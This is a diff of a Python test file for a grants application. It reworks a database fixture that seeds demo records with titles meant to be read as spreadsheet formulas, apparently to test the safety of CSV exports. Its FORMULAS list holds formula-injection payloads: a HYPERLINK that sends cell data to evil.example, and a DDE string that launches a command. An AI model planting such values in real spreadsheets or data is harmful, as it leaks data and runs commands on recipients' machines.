@@ -12,7 +12,7 @@ from urllib.parse import quote, urlsplit
 
 import pytest
 import sqlalchemy as sa
-from conftest import FreshContextClient, _base_config, _truncate_pg, link_in, login, post_form, read_outbox
+from conftest import FreshContextClient, _base_config, link_in, login, post_form, read_outbox
 
 from grants.extensions import db
 
@@ -233,18 +233,16 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+1+cmd|' /C calc
 
 
 @pytest.fixture(scope="module")
-def demo(pg_database, tmp_path_factory):
+def demo(pg_database, demo_database, tmp_path_factory):
     """The demo round on PostgreSQL, with names and titles that a spreadsheet would run as formulas."""
     from grants import create_app
     from grants.applications.models import Application
     from grants.awards.models import Award
-    from grants.demo import seed
 
-    _truncate_pg(pg_database)
-    app = create_app(_base_config(pg_database, tmp_path_factory.mktemp("findings")) | {"RATELIMIT_ENABLED": False})
+    folder = tmp_path_factory.mktemp("findings")
+    app = create_app(_base_config(demo_database("postgresql", folder), folder) | {"RATELIMIT_ENABLED": False})
     app.test_client_class = FreshContextClient
     with app.app_context():
-        seed(only_if_empty=False)
         award = db.session.execute(db.select(Award).where(Award.letters.any()).order_by(Award.id)).scalars().first()
         application = db.session.get(Application, award.application_id)
         application.title = FORMULAS[0]
